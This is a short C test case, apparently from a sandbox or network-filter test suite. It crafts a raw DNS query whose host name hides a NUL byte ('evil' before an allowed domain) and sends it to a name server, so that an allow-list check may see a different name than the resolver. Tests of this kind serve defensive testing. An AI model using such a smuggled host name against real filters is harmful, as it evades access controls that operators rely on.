/* A name with a NUL in it, before the name of a host that may be allowed. */
#include "../attack.h"

#include "dns.h"

ATTACK(NETWORK, "attempts", .gain = "a check that sees another name than the resolver",
       .source = "a NUL in a host name", .works = SOME_KERNELS, .needs = "a name server",
       .flags = QUIET)
{
	static const unsigned char q[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0"
					 "\x0c"
					 "evil\0allowed\7example\3com\0\0\1\0\1";

	return dns_send(*name_server() ? name_server() : "127.0.0.1", q, sizeof(q) - 1);
}
